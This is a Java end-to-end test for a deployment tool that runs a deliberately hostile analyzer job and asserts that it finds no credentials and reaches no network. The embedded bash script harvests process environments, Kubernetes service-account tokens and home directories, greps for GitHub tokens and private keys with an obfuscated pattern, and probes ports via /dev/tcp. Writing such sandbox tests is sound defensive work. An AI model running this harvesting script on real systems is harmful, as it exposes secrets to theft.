package dev.atlas.deploy;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.sun.net.httpserver.HttpServer;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * An analysis task end to end through {@code bin/atlas} on the local driver, with an analyzer written as a hostile
 * cloud would write it: it has the source in front of it and hunts for any credential (its environment, every
 * process's environment and command line, the secrets folder, Atlas's data folder) and tries to send what it has
 * straight to the cloud. The job holds no VCS secret and talks only to Atlas: the clone came through Atlas's git
 * endpoint (the VCS saw only the per-task credential Atlas minted for one repository, read-only, then revoked), the
 * analyzer found nothing and reached nothing, and its result reached the cloud only through Atlas's results endpoint.
 */
class HostileAnalyzerEndToEndIT {
    private static final ObjectMapper JSON = new ObjectMapper();
    /** What the fake GitHub mints for the task: it must never be seen by the analyzer or reach the cloud. */
    private static final String VCS_TOKEN = "ghs_hostile_e2e_token";

    @TempDir
    Path dir;

    /** The analyzer: reads the code, hunts for tokens, tries the network, then reports what it got as a result file. */
    private static String hostileAnalyzer(int cloudPort, int atlasPort, Path atlasData) {
        return String.join("\n",
            "readme=$(head -c 40 \"$ATLAS_WORKSPACE/repo/README.md\" | tr -dc 'a-z ')",
            "{ env; for f in /proc/*/environ /proc/*/cmdline; do tr '\\0' '\\n' < \"$f\"; done;",
            "  cat \"${ATLAS_SECRETS_DIR:-/nonexistent}\"/* /var/run/secrets/kubernetes.io/serviceaccount/token;",
            "  grep -rh . '" + atlasData + "' /root /home; } > /tmp/scan 2>/dev/null",
            // the pattern is put together at run time: written whole, it would be found in this script's own cmdline
            "g=gh; j=ey; k=PRIVATE; pattern=\"${g}s_|${j}J|${k} KEY\"",
            "hits=$(grep -oE \"$pattern\" /tmp/scan | sort -u | tr -dc 'A-Za-z_ ' | head -c 60)",
            "if [ -n \"$hits\" ]; then leak=\"yes $hits\"; else leak=no; fi",
            "if (exec 3<>/dev/tcp/127.0.0.1/" + cloudPort + ") 2>/dev/null; then cloud=reached; else cloud=unreachable; fi",
            "if (exec 3<>/dev/tcp/127.0.0.1/" + atlasPort + ") 2>/dev/null; then atlas=reached; else atlas=unreachable; fi",
            "printf '{\"taskId\":\"%s\",\"type\":\"analysis\",\"status\":\"succeeded\",\"detail\":\"readme=%s leak=%s "
                + "cloud=%s atlas=%s\"}' \"$ATLAS_TASK_ID\" \"$readme\" \"$leak\" \"$cloud\" \"$atlas\" "
                + "> \"$ATLAS_RESULTS_DIR/findings.json\"");
    }

    @Test
    void aHostileAnalyzerFindsNoCredentialReachesNothingAndItsResultArrivesThroughAtlas() throws Exception {
        String head = LocalGit.seedRepository(dir, "hello from the code\n");

        List<JsonNode> results = new CopyOnWriteArrayList<>();
        List<Map<String, List<String>>> resultHeaders = new CopyOnWriteArrayList<>();
        List<String> tokenRequests = new CopyOnWriteArrayList<>();
        List<String> revocations = new CopyOnWriteArrayList<>();
        try (GitHttpServer gitServer = GitHttpServer.start(dir.resolve("repos"))) {
            HttpServer github = LocalGit.server(s -> s.createContext("/", exchange -> {
                byte[] body = exchange.getRequestBody().readAllBytes();
                String path = exchange.getRequestURI().getPath();
                String answer = "{}";
                int status = 200;
                if (path.endsWith("/access_tokens")) {
                    tokenRequests.add(new String(body, StandardCharsets.UTF_8));
                    status = 201;
                    answer = "{\"token\":\"" + VCS_TOKEN + "\",\"expires_at\":\"" + Instant.now().plusSeconds(3600) + "\"}";
                } else if (path.endsWith("/installation/token") && exchange.getRequestMethod().equals("DELETE")) {
                    revocations.add(exchange.getRequestHeaders().getFirst("Authorization"));
                    status = 204;
                }
                byte[] bytes = status == 204 ? new byte[0] : answer.getBytes(StandardCharsets.UTF_8);
                exchange.getResponseHeaders().add("Content-Type", "application/json");
                exchange.sendResponseHeaders(status, status == 204 ? -1 : bytes.length);
                exchange.getResponseBody().write(bytes);
                exchange.close();
            }));
            HttpServer cloud = LocalGit.server(s -> s.createContext("/", exchange -> {
                byte[] body = exchange.getRequestBody().readAllBytes();
                if (exchange.getRequestURI().getPath().startsWith("/results/")) {
                    results.add(JSON.readTree(body));
                    resultHeaders.add(Map.copyOf(exchange.getRequestHeaders()));
                }
                exchange.sendResponseHeaders(200, -1);
                exchange.close();
            }));
            int port = Distribution.freePort();
            int cloudPort = cloud.getAddress().getPort();
            String cloudUrl = "http://127.0.0.1:" + cloudPort;
            Path config = Distribution.githubConfig(dir, port, cloudUrl, "hook");
            Files.writeString(config, Files.readString(config)
                .replace("webUrl: https://github.example", "webUrl: " + gitServer.url())
                .replace("apiUrl: https://github.example/api/v3", "apiUrl: http://127.0.0.1:"
                    + github.getAddress().getPort() + "/api/v3")
                .replace("appId: \"12345\"", "appId: \"12345\"\n          installationId: \"99\""));
            Process atlas = Distribution.start(Map.of(), "run", "--config", config.toString());
            try {
                String base = "http://127.0.0.1:" + port;
                await().atMost(Duration.ofSeconds(60)).until(() -> Distribution.status(base + "/health/ready") == 200);
                Map<String, Object> task = Map.of("type", "analysis", "appId", "gh-main", "installationId", 99,
                    "repository", Map.of("cloneUrl", gitServer.url() + "/acme/api.git", "ref", "main", "sha", head),
                    "resultUrl", cloudUrl + "/results/e2e-hostile-1",
                    "analyzers", List.of(Map.of("name", "hostile", "image", "cloud/hostile:1",
                        "command", List.of("bash", "-c", hostileAnalyzer(cloudPort, port, dir.resolve("data"))))));
                HttpResponse<String> accepted = Distribution.post(base + "/api/tasks/e2e-hostile-1",
                    JSON.writeValueAsBytes(task), "Content-Type", "application/json", "Authorization",
                    "Bearer " + Distribution.cloudToken());
                assertThat(accepted.statusCode()).as(accepted.body()).isEqualTo(201);

                await().atMost(Duration.ofSeconds(120)).until(() -> results.stream()
                    .anyMatch(r -> r.path("detail").asText().contains("readme=")));
                JsonNode findings = results.stream().filter(r -> r.path("detail").asText().contains("readme="))
                    .findFirst().orElseThrow();
                // it had the code in front of it ...
                assertThat(findings.path("detail").asText()).contains("readme=hello from the code");
                // ... but no credential of any kind, and no way out but its result files
                assertThat(findings.path("detail").asText()).contains("leak=no").contains("cloud=unreachable")
                    .contains("atlas=unreachable");
                // the result came through Atlas: signed by Atlas for the cloud, never the job's own token
                assertThat(resultHeaders.get(0)).containsKeys("Webhook-signature", "Webhook-id", "X-atlas-task-id");
                // the VCS saw only a credential Atlas minted for this one repository, read-only, and revoked
                assertThat(tokenRequests).isNotEmpty().allSatisfy(body -> {
                    assertThat(JSON.readTree(body).path("repositories")).containsExactly(JSON.readTree("\"api\""));
                    assertThat(JSON.readTree(body).at("/permissions/contents").asText()).isEqualTo("read");
                });
                assertThat(revocations).isNotEmpty().allSatisfy(a -> assertThat(a).isEqualTo("Bearer " + VCS_TOKEN));
                assertThat(results.toString()).doesNotContain(VCS_TOKEN);
                assertThat(Distribution.output(atlas)).doesNotContain(VCS_TOKEN).doesNotContain("PRIVATE KEY");
            } finally {
                atlas.destroy();
                atlas.waitFor(30, TimeUnit.SECONDS);
                github.stop(0);
                cloud.stop(0);
            }
        }
    }
}
